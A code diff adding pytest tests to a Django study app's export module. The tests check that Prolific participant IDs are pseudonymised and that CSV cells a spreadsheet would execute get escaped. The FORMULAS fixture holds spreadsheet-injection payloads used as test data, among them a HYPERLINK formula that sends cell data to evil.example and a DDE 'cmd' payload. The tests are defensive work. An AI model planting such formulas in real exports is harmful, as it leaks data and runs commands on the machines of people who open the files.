@@ -12,8 +12,11 @@ from django.urls import reverse
 from django.utils import timezone
 
 from studyapp.analysis import exports, services
-from studyapp.participation.models import Allocation, Participant
-from tests.analysis.scored import ARM_SECRETS
+from studyapp.analysis.identifiers import pseudonymizer
+from studyapp.chat.models import Message
+from studyapp.participation.models import Allocation, Answer, Participant
+from tests.analysis.scored import ARM_SECRETS, PIDS, SESSIONS
+from tests.factories import make_study
 
 EXPECTED_ROWS = {"participants": 5, "tasks": 5, "answers": 5, "messages": 6, "allocations": 4}
 
@@ -120,7 +123,7 @@ def test_the_data_dictionary_also_comes_as_csv(tmp_path, ledger):
 @pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
 def test_no_export_contains_a_participant_token(tmp_path, ledger, fmt):
     export(tmp_path, fmt)
-    tokens = list(Participant.objects.values_list("token", flat=True))
+    tokens = [p.token for p in Participant.objects.all()]
     for path in tmp_path.iterdir():
         data = path.read_bytes()
         for token in tokens:
@@ -269,3 +272,145 @@ def test_an_empty_table_is_still_a_valid_file(tmp_path, scored, fmt):
         assert path.read_text().startswith("sequence,participant_id,arm,arm_letter,")
     else:
         assert path.read_bytes() == b""
+
+
+# --- Pseudonymous Prolific ids --------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
+@pytest.mark.parametrize("blinded", [False, True], ids=["unblinded", "blinded"])
+def test_exports_name_prolific_participants_by_pseudonym_only(tmp_path, prolific, fmt, blinded):
+    dictionary = export(tmp_path, fmt, *(["--blinded"] if blinded else []))
+    for path in tmp_path.iterdir():
+        data = path.read_bytes()
+        for secret in PIDS + SESSIONS:
+            assert secret.encode() not in data, (path.name, secret)
+    assert dictionary["identifiers"] == "pseudonymous"
+    columns, participants = read_table(tmp_path / f"participants.{fmt}", fmt)
+    assert "prolific_pid" not in columns and "prolific_session_id" not in columns
+    assert "participant_id" in columns
+    pseudonyms = [p["prolific_pid_pseudonym"] for p in participants]
+    assert all(len(x) == 16 and int(x, 16) >= 0 for x in pseudonyms[:4])
+    assert len(set(pseudonyms[:4])) == 4
+    assert pseudonyms[4] in ("", None)  # no PID, no pseudonym
+    assert {p["prolific_study_id"] for p in participants[:4]} == {"64bbstudyzz"}
+
+
+def test_a_pseudonym_is_stable_across_exports_and_differs_between_studies(
+    tmp_path, prolific, settings
+):
+    first = export(tmp_path / "1", "jsonl")
+    second = export(tmp_path / "2", "jsonl")
+    assert first["identifiers"] == second["identifiers"] == "pseudonymous"
+    _c, one = read_table(tmp_path / "1" / "participants.jsonl", "jsonl")
+    _c, two = read_table(tmp_path / "2" / "participants.jsonl", "jsonl")
+    assert [p["prolific_pid_pseudonym"] for p in one] == [p["prolific_pid_pseudonym"] for p in two]
+    other = make_study("gamma")
+    here = pseudonymizer(study_id=prolific.study.pk)
+    assert one[0]["prolific_pid_pseudonym"] == here(PIDS[0])
+    assert pseudonymizer(study_id=other.pk)(PIDS[0]) != here(PIDS[0])
+
+
+def test_a_dedicated_key_keeps_pseudonyms_through_a_secret_key_rotation(db, settings):
+    settings.EXPORT_PSEUDONYM_KEY = ""
+    derived = pseudonymizer(study_id=1)(PIDS[0])
+    settings.SECRET_KEY = "rotated-" + settings.SECRET_KEY
+    assert pseudonymizer(study_id=1)(PIDS[0]) != derived
+    settings.EXPORT_PSEUDONYM_KEY = "a-dedicated-export-key-of-this-server"
+    keyed = pseudonymizer(study_id=1)(PIDS[0])
+    settings.SECRET_KEY = "rotated-again"
+    assert pseudonymizer(study_id=1)(PIDS[0]) == keyed != derived
+
+
+def test_the_data_dictionary_says_how_pseudonyms_are_made(client, alice, scored):
+    client.force_login(alice)
+    dictionary = client.get(reverse("analysis:export_dictionary", args=["beta", "json"])).json()
+    assert dictionary["identifiers"] == "pseudonymous"
+    convention = dictionary["conventions"]["identifiers"]
+    assert "HMAC-SHA256" in convention and "EXPORT_PSEUDONYM_KEY" in convention
+    participants = next(t for t in dictionary["tables"] if t["name"] == "participants")
+    names = [c["name"] for c in participants["columns"]]
+    assert "prolific_pid_pseudonym" in names and "prolific_pid" not in names
+    assert "' so that a spreadsheet does not run them" in dictionary["conventions"]["csv"]
+
+
+# --- Spreadsheet formulas in CSV ------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"see")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+]
+
+
+@pytest.fixture
+def planted(scored):
+    """Participant text a spreadsheet would run: in answers, messages and the stratum."""
+    answers = list(Answer.objects.filter(task__participant__study=scored.study).order_by("pk"))
+    for answer, text in zip(answers, FORMULAS, strict=False):
+        Answer.objects.filter(pk=answer.pk).update(conditions_text=text)
+    first = Message.objects.filter(conversation__task__participant=scored.p1).order_by("pk")[0]
+    Message.objects.filter(pk=first.pk).update(text=FORMULAS[0])
+    Participant.objects.filter(pk=scored.p1.pk).update(stratum="=1+1")
+    return scored
+
+
+def test_csv_escapes_text_a_spreadsheet_would_run_and_keeps_numbers(tmp_path, planted):
+    export(tmp_path, "csv")
+    _c, answers = read_table(tmp_path / "answers.csv", "csv")
+    assert [a["conditions_text"] for a in answers] == ["'" + t for t in FORMULAS[:5]]
+    # Numbers stay numbers: a negative distance is -1, not '-1.
+    assert sorted({a["disposition_distance"] for a in answers}) == ["-1", "0", "1"]
+    _c, messages = read_table(tmp_path / "messages.csv", "csv")
+    assert messages[0]["text"] == "'" + FORMULAS[0]
+    _c, participants = read_table(tmp_path / "participants.csv", "csv")
+    assert participants[0]["stratum"] == "'=1+1"
+    # Dropping one leading ' gives the text back.
+    assert [a["conditions_text"][1:] for a in answers] == FORMULAS[:5]
+    for path in tmp_path.glob("*.csv"):
+        for row in csv.reader(path.open(newline="", encoding="utf-8")):
+            for cell in row:
+                if cell and cell[0] in "=+@\t\r":
+                    raise AssertionError((path.name, cell))
+                if cell.startswith("-"):
+                    int(cell)  # only numbers may start with a minus
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
+def test_jsonl_and_parquet_keep_text_verbatim(tmp_path, planted, fmt):
+    export(tmp_path, fmt)
+    _c, answers = read_table(tmp_path / f"answers.{fmt}", fmt)
+    assert [a["conditions_text"] for a in answers] == FORMULAS[:5]
+    _c, participants = read_table(tmp_path / f"participants.{fmt}", fmt)
+    assert participants[0]["stratum"] == "=1+1"
+
+
+def test_a_csv_download_is_escaped_too(client, alice, planted):
+    client.force_login(alice)
+    body = b"".join(download(client, "answers", "csv").streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert rows[0]["conditions_text"] == "'" + FORMULAS[0]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1", "'=1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'x", "''x"),
+        ("", ""),
+        ("appendicitis", "appendicitis"),
+        (" =1", " =1"),
+        ("a=1", "a=1"),
+    ],
+)
+def test_csv_text(text, cell):
+    assert exports.csv_text(text) == cell
